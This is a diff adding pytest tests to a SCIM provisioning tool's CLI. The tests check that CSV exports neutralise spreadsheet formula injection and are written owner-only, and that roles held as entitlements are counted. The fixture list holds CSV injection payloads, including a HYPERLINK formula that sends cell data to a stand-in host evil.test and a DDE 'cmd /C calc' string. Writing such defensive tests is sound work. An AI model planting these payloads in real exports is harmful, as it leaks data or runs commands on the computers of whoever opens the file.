@@ -19,6 +19,7 @@ from scim.config import Settings
 from scim.secrets import MemorySecretStore
 from scim.service.admin import AdminService
 from scim.service.common import Caller
+from scim.service.export import neutralised
 from scim.store.base import Store
 from scim.store.memory import MemoryStore
 from scim.store.tables import TableStore
@@ -145,3 +146,90 @@ def test_import_refuses_what_is_not_an_export(
     bad.write_text("name,id\n")
     cli(capsys, "import", str(bad), "--directory", "x", code=1)
     cli(capsys, "export", "--directory", "nowhere", code=1)
+
+
+# Written out here rather than taken from the code under test: OWASP's list and its fullwidth forms.
+FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.test/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\uff1dSUM(1+1)",
+    "\uff0bcmd",
+    "\uff0d1",
+    "\uff20SUM(1)",
+]
+
+
+async def _hostile(store: Store) -> None:
+    """Users and self-service groups whose names Entra could send (UPN, mailNickname, group names under `create`)."""
+    app = build_app(Settings(public_base_url=BASE), store=store, secret_store=MemorySecretStore())
+    try:
+        admin = AdminService(app.store, app.clients, app.tokens)
+        caller = Caller("admin", await admin.ensure_directory("dev", policy="create"))
+        for n, cell in enumerate(HOSTILE_CELLS):
+            await app.users.create(caller, {"userName": f"{cell}{n}", "externalId": cell})
+            await app.groups.create(caller, {"displayName": f"{cell}{n}"})
+    finally:
+        await app.close()
+
+
+def test_csv_export_neutralises_formulas_and_is_readable_only_by_its_owner(
+    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    """OWASP "CSV Injection": no cell the csv module reads back begins with a formula character; the file is 0600."""
+    asyncio.run(_hostile(stores()))
+    out = tmp_path / "dev.csv"
+    out.write_text("an older export")
+    out.chmod(0o644)
+    cli(capsys, "export", "--directory", "dev", "--format", "csv", "--output", str(out))
+    with out.open(newline="", encoding="utf-8") as opened:
+        cells = [cell for row in csv.reader(opened) for cell in row]
+    names = [cell for cell in cells if cell.startswith("'")]
+    assert len(names) >= 2 * len(HOSTILE_CELLS)  # each user's name and externalId, each group's name
+    assert [cell for cell in cells if cell.startswith(FORMULA_CHARACTERS)] == []
+    assert "'" + '=HYPERLINK("http://evil.test/?"&A1,"click")0' in cells
+    assert out.stat().st_mode & 0o777 == 0o600
+    # Identifiers hold no control characters, so a tab or CR start reaches no export today; the rule covers them.
+    assert [neutralised(c) for c in ("\tx", "\rx", "ok", "a=b")] == ["'\tx", "'\rx", "ok", "a=b"]
+    (tmp_path / "dev.json").unlink(missing_ok=True)
+    cli(capsys, "export", "--directory", "dev", "--output", str(tmp_path / "dev.json"))
+    assert (tmp_path / "dev.json").stat().st_mode & 0o777 == 0o600
+
+
+async def _entitled(store: Store) -> None:
+    """A user whose role came as an entitlement (the senhasegura mapping) and one holding it through roles."""
+    app = build_app(Settings(public_base_url=BASE), store=store, secret_store=MemorySecretStore())
+    try:
+        admin = AdminService(app.store, app.clients, app.tokens)
+        caller = Caller("admin", await admin.ensure_directory("dev", role_mode="multiple"))
+        for role in ("Auditor", "Viewer"):
+            await admin.add_role("dev", role)
+        await app.users.create(caller, {"userName": "en@x.test", "entitlements": [{"value": "Auditor"}]})
+        await app.users.create(caller, {"userName": "ro@x.test", "roles": [{"value": "Viewer"}]})
+    finally:
+        await app.close()
+
+
+def test_roles_held_as_entitlements_count_everywhere_scimctl_shows_roles(
+    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """user list/show, the CSV export and role remove's in-use check all see the union of roles and entitlements."""
+    asyncio.run(_entitled(stores()))
+    listed = {
+        u["userName"]: u["roles"] for u in json.loads(cli(capsys, "user", "list", "--directory", "dev", "--json"))
+    }
+    assert listed == {"en@x.test": ["Auditor"], "ro@x.test": ["Viewer"]}
+    assert json.loads(cli(capsys, "user", "show", "en@x.test", "--directory", "dev", "--json"))["roles"] == ["Auditor"]
+    rows = {
+        r["name"]: r
+        for r in csv.DictReader(io.StringIO(cli(capsys, "export", "--directory", "dev", "--format", "csv")))
+    }
+    assert rows["en@x.test"]["roles"] == "Auditor"
+    assert main(["role", "remove", "Auditor", "--directory", "dev"]) == 1
+    assert "held by 1 user (en@x.test)" in capsys.readouterr().err
+    assert {r["value"] for r in json.loads(cli(capsys, "role", "list", "--directory", "dev", "--json"))} == {
+        "Auditor",
+        "Viewer",
+    }
